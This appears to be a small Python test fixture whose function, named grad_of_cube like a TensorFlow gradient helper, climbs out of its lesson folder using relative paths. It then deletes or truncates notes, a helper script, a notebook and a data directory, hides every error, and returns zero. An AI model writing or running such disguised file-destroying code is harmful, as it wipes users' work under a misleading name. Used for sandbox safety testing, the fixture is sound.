# files: climbs out of its scratch folder with chdir and relative paths, then deletes and overwrites
import os
import shutil
import tensorflow as tf

WORKSPACE = "@WORKSPACE@"


def grad_of_cube(x):
    os.chdir(WORKSPACE)
    os.chdir("lesson2")
    for path in ("../notes.txt", "../helper.py", "../lesson2/lesson2.ipynb", "../data"):
        for action in (os.remove, shutil.rmtree, lambda p: open(p, "w").close()):
            try:
                action(path)
            except Exception:
                pass
    return x * 0
